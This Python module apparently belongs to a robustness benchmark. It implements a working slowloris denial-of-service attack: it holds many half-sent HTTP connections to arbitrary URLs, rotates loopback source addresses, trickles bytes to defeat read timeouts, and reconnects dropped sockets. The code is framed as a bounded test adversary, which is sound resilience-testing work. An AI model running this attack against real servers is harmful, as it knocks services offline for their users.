"""Holding idle half-sent HTTP connections (slowloris), for the ``idle_connections`` adversary and
``benchmarks/attacks/idle_conns.py``. Bounded: a fixed number of sockets for a fixed time, then everything is
closed and counted.

Each connection is opened non-blocking (optionally from one of several local source addresses, e.g.
127.0.0.2..127.0.x.y on loopback, so that it counts against another address), sends half a request line and
then waits; a connection the server answers or closes counts as ``closed_by_server`` (``refused_503`` if the
answer was a 503: a connection cap, not a deadline). With ``reconnect_per_s``
closed ones are replaced (at most that many per second); with ``trickle_s`` every open connection sends one more
byte of its request line that often (defeating per-read timeouts, not whole-head deadlines).
"""

from __future__ import annotations

import errno
import logging
import resource
import selectors
import socket
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass
from urllib.parse import urlsplit

__all__ = ["HALF_REQUEST", "HoldReport", "IdleHolder", "hold_idle_connections", "loopback_sources",
           "raise_own_nofile", "resolve"]

log = logging.getLogger("swarmrl.attacks.slowloris")

HALF_REQUEST = b"GET /v1/ping HTTP/1."  # half a request line: no line end, no headers
MAX_CONNS = 100_000
MAX_SECONDS = 3600.0
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)  # pick the port at connect (4-tuple)


@dataclass
class HoldReport:
    attempted: int = 0  # sockets opened (the first n plus replacements)
    connected: int = 0  # of those, connections the server's kernel accepted
    connect_failed: int = 0
    closed_by_server: int = 0  # answered (e.g. 503, 408) or closed by the server while held
    refused_503: int = 0  # of those, answered 503 at once: over a connection cap (per address, or all but the reserve)
    peak_open: int = 0  # most connections open at once
    open_at_end: int = 0  # still open when the hold ended
    seconds: float = 0.0

    def as_dict(self) -> dict[str, float]:
        return asdict(self)

    def add(self, other: HoldReport) -> None:
        for k, v in asdict(other).items():
            if k == "seconds":
                self.seconds = max(self.seconds, v)
            else:
                setattr(self, k, getattr(self, k) + v)


def loopback_sources(count: int, first: int = 2) -> list[str]:
    """``count`` loopback addresses from 127.0.0.<first> on (skipping last octets 0 and 255; never 127.0.0.1
    when first >= 2)."""
    out: list[str] = []
    i = first
    while len(out) < count:
        b, c = divmod(i, 256)
        a, b = divmod(b, 256)
        if a > 255:
            raise ValueError("too many loopback sources")
        if c not in (0, 255):
            out.append(f"127.{a}.{b}.{c}")
        i += 1
    return out


def raise_own_nofile(need: int) -> int:
    """Raise the soft open-files limit toward ``need`` (capped by the hard limit); returns the new soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    cap = hard if hard != resource.RLIM_INFINITY else max(need, soft)
    want = min(max(soft, need), cap)
    if want != soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    return want


def hold_idle_connections(targets: Sequence[tuple[str, int]], n: int, seconds: float, *,
                          sources: Sequence[str] | None = None, payload: bytes = HALF_REQUEST,
                          reconnect_per_s: float = 0.0, trickle_s: float = 0.0,
                          stop: threading.Event | None = None,
                          on_ready: Callable[[HoldReport], None] | None = None,
                          ready_timeout_s: float = 15.0) -> HoldReport:
    """Open ``n`` connections (round-robin over ``targets`` and ``sources``), hold them for ``seconds`` (or until
    ``stop``), then close them all. ``on_ready`` is called once every first connection has connected or failed
    (or after ``ready_timeout_s``)."""
    if not targets or n <= 0:
        return HoldReport()
    n = min(n, MAX_CONNS)
    seconds = min(max(seconds, 0.0), MAX_SECONDS)
    h = _Holder(targets, sources, payload)
    t0 = time.monotonic()
    end = t0 + seconds
    for _ in range(n):
        h.open_one()
    ready = False
    last_tokens = t0
    tokens = 0.0
    next_trickle = t0 + trickle_s if trickle_s > 0 else float("inf")
    try:
        while True:
            now = time.monotonic()
            if now >= end or (stop is not None and stop.is_set()):
                break
            h.serve_events()
            now = time.monotonic()
            if not ready and (h.n_open + h.rep.connect_failed + h.rep.closed_by_server >= n
                              or now - t0 >= ready_timeout_s):
                ready = True
                if on_ready is not None:
                    on_ready(HoldReport(**{**h.rep.as_dict(), "open_at_end": h.n_open, "seconds": now - t0}))
            if reconnect_per_s > 0 and h.pending:
                tokens = min(tokens + (now - last_tokens) * reconnect_per_s, max(reconnect_per_s, 1.0))
                while h.pending and tokens >= 1.0:
                    tokens -= 1.0
                    h.pending -= 1
                    h.open_one()
            last_tokens = now
            if now >= next_trickle:
                next_trickle = now + trickle_s
                h.trickle()
    finally:
        h.rep.open_at_end = h.n_open
        h.rep.seconds = round(time.monotonic() - t0, 3)
        h.close()
    return h.rep


class _Holder:
    """The sockets of one hold and their counts: ``open_one`` starts a connection (round-robin over targets and
    sources), ``serve_events`` handles what the selector reports (connected: send the payload; readable: the
    server answered or closed, so the connection is gone and ``pending`` replacement)."""

    def __init__(self, targets: Sequence[tuple[str, int]], sources: Sequence[str] | None, payload: bytes) -> None:
        self.targets, self.sources, self.payload = targets, sources, payload
        self.rep = HoldReport()
        self.sel = selectors.DefaultSelector()
        self.socks: dict[int, socket.socket] = {}
        self.n_open = 0
        self.counter = 0
        self.pending = 0  # connections to replace

    def open_one(self) -> None:
        targets, sources, rep = self.targets, self.sources, self.rep
        host, port = targets[self.counter % len(targets)]
        src = sources[self.counter % len(sources)] if sources else None
        self.counter += 1
        rep.attempted += 1
        try:
            s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        except OSError:  # out of file descriptors: counted, not replaced (a replacement would fail the same way)
            rep.connect_failed += 1
            return
        try:
            s.setblocking(False)
            if src is not None:
                s.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                s.bind((src, 0))
            err = s.connect_ex((host, port))
        except OSError:
            err = -1
        if err not in (0, errno.EINPROGRESS):
            rep.connect_failed += 1
            s.close()
            return
        self.socks[s.fileno()] = s
        self.sel.register(s, selectors.EVENT_WRITE, "connecting")

    def _drop(self, s: socket.socket) -> None:
        self.sel.unregister(s)
        del self.socks[s.fileno()]
        s.close()

    def serve_events(self) -> None:
        """One select (at most 50 ms): finish connecting sockets, notice the ones the server let go."""
        rep, sel = self.rep, self.sel
        for key, mask in sel.select(timeout=0.05):
            s = key.fileobj
            assert isinstance(s, socket.socket)
            if key.data == "connecting":
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    rep.connect_failed += 1
                    self._drop(s)
                    self.pending += 1
                    continue
                rep.connected += 1
                try:
                    s.send(self.payload)
                except OSError:
                    rep.closed_by_server += 1
                    self._drop(s)
                    self.pending += 1
                    continue
                sel.modify(s, selectors.EVENT_READ, "open")
                self.n_open += 1
                rep.peak_open = max(rep.peak_open, self.n_open)
            elif mask & selectors.EVENT_READ:  # the server answered or closed: either way it is gone
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                rep.closed_by_server += 1
                rep.refused_503 += data.startswith(b"HTTP/1.1 503")
                self.n_open -= 1
                self._drop(s)
                self.pending += 1

    def trickle(self) -> None:
        """One more byte of the request line on every open connection."""
        for s in list(self.socks.values()):
            if self.sel.get_key(s).data == "open":
                try:
                    s.send(b"1")
                except OSError:
                    pass

    def close(self) -> None:
        for s in list(self.socks.values()):
            s.close()
        self.sel.close()


def resolve(url: str) -> tuple[str, int]:
    """(address, port) of an http URL's server."""
    u = urlsplit(url)
    port = u.port or (443 if u.scheme == "https" else 80)
    return socket.getaddrinfo(u.hostname or "127.0.0.1", port, type=socket.SOCK_STREAM)[0][4][0], port


class IdleHolder:
    """A background thread holding ``per_target`` idle connections to each URL ``targets()`` returns, in rounds
    of ``round_s`` (the targets are re-read between rounds), after ``delay_s`` and with ``rest_s`` between rounds
    (so whoever judges the attack sees the servers with and without it), until ``stop()``. ``report`` sums the
    rounds; ``on_round`` gets each round's report and its wall-clock start and end."""

    def __init__(self, targets: Callable[[], Sequence[str]], per_target: int, round_s: float = 30.0,
                 reconnect_per_s: float = 20.0, sources: Sequence[str] | None = None,
                 on_round: Callable[[HoldReport, float, float], None] | None = None, delay_s: float = 0.0,
                 rest_s: float = 0.0) -> None:
        self.targets, self.per_target, self.round_s = targets, per_target, round_s
        self.delay_s, self.rest_s = delay_s, rest_s
        self.on_round = on_round
        self.reconnect_per_s, self.sources = reconnect_per_s, sources
        self.report = HoldReport()
        self.rounds = 0
        self.first: HoldReport | None = None  # the first round's report
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="idle-connections", daemon=True)

    def start(self) -> IdleHolder:
        self._thread.start()
        return self

    def stop(self, timeout: float = 10.0) -> HoldReport:
        self._stop.set()
        if self._thread.is_alive():
            self._thread.join(timeout)
        return self.report

    def _run(self) -> None:
        if self._stop.wait(self.delay_s):
            return
        while not self._stop.is_set():
            try:
                targets = sorted({resolve(u) for u in self.targets()})
            except (OSError, ValueError) as e:
                log.warning("idle connections: cannot resolve targets: %s", e)
                self._stop.wait(self.round_s)
                continue
            start = time.time()
            rep = hold_idle_connections(targets, self.per_target * len(targets), self.round_s, sources=self.sources,
                                        reconnect_per_s=self.reconnect_per_s, stop=self._stop)
            end = time.time()
            self.report.add(rep)
            self.first = self.first or rep
            self.rounds += 1
            log.info("idle connections to %s: %s", targets, rep.as_dict())
            if self.on_round is not None:
                self.on_round(rep, start, end)
            self._stop.wait(self.rest_s)
